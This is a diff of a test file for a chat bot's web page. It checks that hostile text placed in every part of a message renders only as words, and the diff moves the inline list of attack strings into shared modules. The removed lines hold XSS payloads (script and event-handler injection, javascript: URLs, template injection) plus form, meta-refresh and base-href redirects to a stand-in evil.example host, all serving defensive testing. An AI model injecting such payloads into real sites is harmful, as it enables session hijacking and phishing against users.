@@ -1,75 +1,15 @@
 import { afterAll, beforeAll, describe, expect, onTestFinished, test } from 'vitest';
-import type { Verdict } from '../../src/actions/report.ts';
-import { outside } from '../../src/actions/text.ts';
 import { listen } from '../../src/bot/http/listen.ts';
 import type { Message } from '../../src/handlers/message.ts';
 import { type APage, aPage } from '../bot/platforms/web/a-page.ts';
 import { cast } from '../fakes/a-desk.ts';
-import { hostileWords } from '../handlers/language/hostile-words.ts';
+import { hostileMessage } from '../handlers/language/hostile-message.ts';
+import { hostileWords, htmlAttacks } from '../handlers/language/hostile-words.ts';
 import { aBrowser, say } from './chromium.ts';
 
 const browser = aBrowser();
 
-const attacks = [
-  '<img src=x onerror="window.owned=1">',
-  '<script>window.owned=1</script>',
-  '"><svg onload=window.owned=1>',
-  "' onmouseover='window.owned=1",
-  '" autofocus onfocus="window.owned=1',
-  '</pre></article><iframe src="javascript:parent.owned=1"></iframe>',
-  '<a href="javascript:window.owned=1">click</a>',
-  '<style>*{display:none!important}</style>',
-  '<form action="https://evil.example"><input name=line autofocus></form>',
-  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
-  '<base href="https://evil.example/">',
-  '&lt;img src=x onerror=window.owned=1&gt;',
-  '{{constructor.constructor("window.owned=1")()}}',
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template is what it tries to be
-  '${window.owned=1}',
-  '\u003cscript\u003ewindow.owned=1\u003c/script\u003e',
-  '<!-- --><!doctype html><plaintext>',
-  hostileWords,
-];
-
-/** The attack in every place words can stand in. */
-const everywhere = (words: string): Message => {
-  const text = outside(words);
-  const mark: Verdict = 'critical';
-  return {
-    blocks: [
-      { type: 'heading', text, mark, aside: text },
-      { type: 'text', text },
-      { type: 'findings', findings: [{ mark, label: text, text }] },
-      { type: 'facts', facts: [{ label: text, value: text }] },
-      { type: 'table', columns: [text, text], rows: [[text, text]] },
-      { type: 'code', text: words },
-      { type: 'steps', steps: [{ title: text, state: 'running', note: text }] },
-      {
-        type: 'chart',
-        alt: text,
-        unit: words,
-        series: [
-          {
-            name: words,
-            points: [
-              [0, 1],
-              [1, 2],
-            ],
-          },
-        ],
-      },
-      { type: 'file', name: words, path: '/nowhere', bytes: 1 },
-      {
-        type: 'buttons',
-        buttons: [
-          { label: text, command: words, style: 'danger' },
-          { label: outside(words), command: words },
-        ],
-      },
-      { type: 'private-input', label: text, ref: words },
-    ],
-  };
-};
+const attacks: readonly string[] = [...htmlAttacks, hostileWords];
 
 async function served() {
   const [alice, ...others] = Object.entries(cast.people);
@@ -130,14 +70,14 @@ describe('hostile words', () => {
   test('in every place of a message are only words: as the page is opened, live, and edited', async () => {
     const all = await served();
     const { page, tab, url } = all;
-    for (const [at, words] of attacks.slice(0, 8).entries()) await post(page, `before-${at}`, everywhere(words));
+    for (const [at, words] of attacks.slice(0, 8).entries()) await post(page, `before-${at}`, hostileMessage(words));
     await tab.goto(url);
     expect(await tab.locator('.message.bot').count()).toBe(8);
     await isUnharmed(all);
-    for (const [at, words] of attacks.slice(8).entries()) await post(page, `live-${at}`, everywhere(words));
+    for (const [at, words] of attacks.slice(8).entries()) await post(page, `live-${at}`, hostileMessage(words));
     await expect.poll(() => tab.locator('.message.bot').count()).toBe(attacks.length);
     await isUnharmed(all);
-    const posted = await post(page, 'edited', everywhere('harmless'));
+    const posted = await post(page, 'edited', hostileMessage('harmless'));
     await tab.locator('.message.bot').filter({ hasText: 'harmless' }).waitFor();
     for (const words of attacks)
       await page.platform.edit?.(
@@ -145,7 +85,7 @@ describe('hostile words', () => {
         posted.posted ? posted.messageId : '',
         {
           key: 'edited',
-          message: everywhere(`edited ${words}`),
+          message: hostileMessage(`edited ${words}`),
           reader: { language: 'en', timeZone: 'UTC' },
         },
       );
